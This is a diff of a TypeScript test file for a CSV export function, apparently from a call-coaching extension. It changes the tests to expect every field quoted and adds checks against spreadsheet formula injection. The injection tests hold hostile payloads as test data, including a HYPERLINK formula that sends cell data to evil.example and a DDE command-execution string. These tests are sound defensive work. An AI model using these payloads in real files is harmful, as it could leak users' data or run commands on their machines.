@@ -21,12 +21,12 @@ describe('parseCsv (the test oracle)', () => {
 
 describe('toCsv: RFC 4180', () => {
   it('writes a BOM, the header and rows with CRLF after every record', () => {
-    expect(toCsv(['a', 'b'], [['1', 'x'], ['2', 'y']])).toBe(`${BOM}a,b\r\n1,x\r\n2,y\r\n`);
+    expect(toCsv(['a', 'b'], [['1', 'x'], ['2', 'y']])).toBe(`${BOM}"a","b"\r\n"1","x"\r\n"2","y"\r\n`);
     expect(CSV_BOM).toBe(BOM);
   });
 
   it('omits the BOM on request', () => {
-    expect(toCsv(['a'], [['x']], { bom: false })).toBe('a\r\nx\r\n');
+    expect(toCsv(['a'], [['x']], { bom: false })).toBe('"a"\r\n"x"\r\n');
   });
 
   it('encodes the BOM as EF BB BF in UTF-8 (what Excel looks for)', () => {
@@ -34,28 +34,28 @@ describe('toCsv: RFC 4180', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   });
 
-  it('quotes fields with commas and doubles quotes', () => {
+  it('quotes every field and doubles quotes', () => {
     const csv = toCsv(['h'], [['a,b'], ['say "hi"'], ['"'], ['""']], { bom: false });
-    expect(csv).toBe('h\r\n"a,b"\r\n"say ""hi"""\r\n""""\r\n""""""\r\n');
+    expect(csv).toBe('"h"\r\n"a,b"\r\n"say ""hi"""\r\n""""\r\n""""""\r\n');
     expect(parseCsv(csv)).toEqual([['h'], ['a,b'], ['say "hi"'], ['"'], ['""']]);
   });
 
   it('quotes fields with CR, LF or CRLF inside and keeps them byte for byte', () => {
     const cells = ['line1\nline2', 'line1\rline2', 'line1\r\nline2', '\n', 'end\r\n'];
     const csv = toCsv(['a', 'b', 'c', 'd', 'e'], [cells], { bom: false });
-    expect(csv).toBe('a,b,c,d,e\r\n"line1\nline2","line1\rline2","line1\r\nline2","\n","end\r\n"\r\n');
+    expect(csv).toBe('"a","b","c","d","e"\r\n"line1\nline2","line1\rline2","line1\r\nline2","\n","end\r\n"\r\n');
     expect(parseCsv(csv)).toEqual([['a', 'b', 'c', 'd', 'e'], cells]);
   });
 
-  it('quotes fields with leading or trailing whitespace', () => {
-    expect(toCsv(['h'], [[' lead'], ['trail '], ['\u00a0nbsp'], ['in side']], { bom: false })).toBe('h\r\n" lead"\r\n"trail "\r\n"\u00a0nbsp"\r\nin side\r\n');
+  it('keeps leading and trailing whitespace inside the quotes', () => {
+    expect(toCsv(['h'], [[' lead'], ['trail '], ['\u00a0nbsp'], ['in side']], { bom: false })).toBe('"h"\r\n" lead"\r\n"trail "\r\n"\u00a0nbsp"\r\n"in side"\r\n');
   });
 
   it('keeps emoji, CJK and right-to-left text as they are', () => {
     const cells = ['Deal 🎉👩🏽‍💻', '会議の後で連絡します', 'שלום, עולם', 'مرحبا بالعالم', 'e\u0301', '\u200fRLM'];
     const csv = toCsv(['emoji', 'cjk', 'hebrew', 'arabic', 'combining', 'rlm'], [cells]);
     expect(csv.startsWith(BOM)).toBe(true);
-    expect(csv).toContain('Deal 🎉👩🏽‍💻,会議の後で連絡します,"שלום, עולם",مرحبا بالعالم');
+    expect(csv).toContain('"Deal 🎉👩🏽‍💻","会議の後で連絡します","שלום, עולם","مرحبا بالعالم"');
     expect(parseCsv(csv)[1]).toEqual(cells);
   });
 
@@ -66,17 +66,17 @@ describe('toCsv: RFC 4180', () => {
     expect(parseCsv(csv)).toEqual([['note', 'n'], [long, '1']]);
   });
 
-  it('writes null, undefined and empty strings as empty fields; a lone empty field as ""', () => {
+  it('writes null, undefined and empty strings as empty quoted fields', () => {
     const csv = toCsv(['a', 'b', 'c'], [[null, undefined, ''], ['', 'x', null]], { bom: false });
-    expect(csv).toBe('a,b,c\r\n,,\r\n,x,\r\n');
+    expect(csv).toBe('"a","b","c"\r\n"","",""\r\n"","x",""\r\n');
     const single = toCsv(['only'], [[''], [null], ['x']], { bom: false });
-    expect(single).toBe('only\r\n""\r\n""\r\nx\r\n');
+    expect(single).toBe('"only"\r\n""\r\n""\r\n"x"\r\n');
     expect(parseCsv(single)).toEqual([['only'], [''], [''], ['x']]);
   });
 
   it('writes numbers and booleans plainly (non-finite numbers as empty)', () => {
     expect(toCsv(['n'], [[0], [-5], [3.25], [-0], [1e21], [Number.NaN], [Infinity], [true], [false]], { bom: false })).toBe(
-      'n\r\n0\r\n-5\r\n3.25\r\n0\r\n1e+21\r\n""\r\n""\r\ntrue\r\nfalse\r\n',
+      '"n"\r\n"0"\r\n"-5"\r\n"3.25"\r\n"0"\r\n"1e+21"\r\n""\r\n""\r\n"true"\r\n"false"\r\n',
     );
   });
 
@@ -85,24 +85,26 @@ describe('toCsv: RFC 4180', () => {
   });
 
   it('gives an empty header-only file for no rows', () => {
-    expect(toCsv(['a', 'b'], [])).toBe(`${BOM}a,b\r\n`);
+    expect(toCsv(['a', 'b'], [])).toBe(`${BOM}"a","b"\r\n`);
   });
 });
 
 describe('toCsv: formula injection', () => {
-  const one = (cell: CsvCell) => toCsv(['h'], [[cell]], { bom: false }).slice('h\r\n'.length, -2);
+  const one = (cell: CsvCell) => toCsv(['h'], [[cell]], { bom: false }).slice('"h"\r\n'.length, -2);
 
   it.each([
-    ['=1+1', "'=1+1"],
-    ['+1', "'+1"],
-    ['-1', "'-1"],
-    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['=1+1', `"'=1+1"`],
+    ['+1', `"'+1"`],
+    ['-1', `"'-1"`],
+    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
     ['=HYPERLINK("https://evil.example/?"&A1,"click")', `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`],
-    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
-    ['\t=1+1', "'\t=1+1"],
+    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
+    ['\t=1+1', `"'\t=1+1"`],
     ['\r=1+1', `"'\r=1+1"`],
-    ['  =1+1', "'  =1+1"],
-    ['- bullet from a note', "'- bullet from a note"],
+    ['  =1+1', `"'  =1+1"`],
+    ['\n=1+2', `"'\n=1+2"`],
+    ['\t', `"'\t"`],
+    ['- bullet from a note', `"'- bullet from a note"`],
   ])('prefixes %j with an apostrophe', (input, expected) => {
     expect(one(input)).toBe(expected);
     expect(parseCsv(`h\r\n${expected}\r\n`)[1]).toEqual([`'${input}`]);
@@ -113,19 +115,19 @@ describe('toCsv: formula injection', () => {
   });
 
   it('never touches numbers, even negative ones', () => {
-    expect(one(-5)).toBe('-5');
-    expect(one(-0.5)).toBe('-0.5');
-    expect(one('-5')).toBe("'-5");
+    expect(one(-5)).toBe('"-5"');
+    expect(one(-0.5)).toBe('"-0.5"');
+    expect(one('-5')).toBe(`"'-5"`);
   });
 
   it('guards header cells too', () => {
-    expect(toCsv(['=x'], [], { bom: false })).toBe("'=x\r\n");
+    expect(toCsv(['=x'], [], { bom: false })).toBe(`"'=x"\r\n`);
   });
 });
 
 describe('toCsv: round trip (property)', () => {
   /** Independent of the writer: text a spreadsheet could read as a formula. */
-  const dangerous = /^ *[=+\-@\t\r]/;
+  const dangerous = /^[ \t\r\n]*[=+\-@]|^[\t\r]/;
   const tricky = fc.string({ unit: fc.constantFrom(',', '"', '\r', '\n', ' ', '\t', 'a', 'Z', '0', 'é', '😀', '中', 'ש', '=', '-', '+', '@', "'", '\u00a0', '\ufeff') });
   const text = fc.oneof(tricky, fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' })).map((s) => (dangerous.test(s) ? `x${s}` : s));
   const cell: fc.Arbitrary<{ value: CsvCell; expected: string }> = fc.oneof(
@@ -274,6 +276,20 @@ describe('formatOffset', () => {
 });
 
 describe('callsCsv', () => {
+  it('keeps text as typed: a leading line break and a tag "-2+3" survive, guarded only in the file', () => {
+    const bundle: CallBundle = {
+      call: call(),
+      tags: [{ id: 't1', callId: call().id, tag: '-2+3', offsetMs: 1_000, at: call().admittedAt! + 1_000 }],
+      checklist: { callId: call().id, status: 'done', fields: fields({ risks: '\n=1+2' }), pendingSince: 0, updatedAt: 0 },
+    };
+    const [row] = csvTable([bundle]);
+    expect(row!.risks).toBe("'\n=1+2");
+    expect(row!.tags).toBe('00:01 -2+3');
+    const json = callsJson([bundle], { purpose: 'coaching', exportedAt: '2025-03-15T09:00:00.000Z', extensionVersion: '0.1.0' });
+    expect(JSON.stringify(json)).toContain('-2+3');
+    expect(JSON.stringify(json)).toContain('\\n=1+2');
+  });
+
   it('writes one row per call with the documented columns', () => {
     const [rich, declined] = csvTable([richBundle, declinedBundle]);
     expect(rich).toEqual({
@@ -335,7 +351,7 @@ describe('callsCsv', () => {
 
   it('starts with a BOM unless asked not to, and is empty but for the header with no calls', () => {
     expect(callsCsv([]).startsWith(BOM)).toBe(true);
-    expect(callsCsv([], { bom: false })).toBe(`${CALLS_CSV_COLUMNS.join(',')}\r\n`);
+    expect(callsCsv([], { bom: false })).toBe(`${CALLS_CSV_COLUMNS.map((c) => `"${c}"`).join(',')}\r\n`);
   });
 });
 
